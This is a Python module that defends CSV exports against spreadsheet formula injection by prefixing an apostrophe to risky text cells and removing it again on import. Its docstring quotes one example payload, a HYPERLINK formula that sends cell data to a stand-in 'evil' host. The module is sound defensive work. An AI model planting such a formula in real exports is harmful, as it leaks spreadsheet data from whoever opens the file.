"""CSV cells a spreadsheet cannot run: one helper for every export (OWASP "CSV injection").

Excel, LibreOffice and Google Sheets run a cell starting with = + - @ (and, after a tab or carriage
return, the same) as a formula: a contact named `=HYPERLINK("http://evil/?"&A1,"Click")` in an export
would leak the sheet or run commands on the admin's machine. Text cells starting with one of those,
or with the apostrophe itself, get a leading apostrophe: spreadsheets show the text as typed and hide
the apostrophe. Numbers stay numbers (a negative figure in a report is not text).

Our own importers (contacts, FAQ) remove that one apostrophe again, so an export imports unchanged.
"""

from __future__ import annotations

from collections.abc import Iterable
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
ESCAPE = "'"


def safe_cell(value: Any) -> Any:
    """The value to write: text that could start a formula (or that starts with the escape) escaped."""
    if isinstance(value, str) and value.startswith((*FORMULA_STARTS, ESCAPE)):
        return ESCAPE + value
    return value


def safe_row(values: Iterable[Any]) -> list[Any]:
    """`safe_cell` over a row."""
    return [safe_cell(v) for v in values]


def read_cell(text: str) -> str:
    """Undo `safe_cell` for a cell read back from one of our exports."""
    return text[1:] if text.startswith(ESCAPE) else text
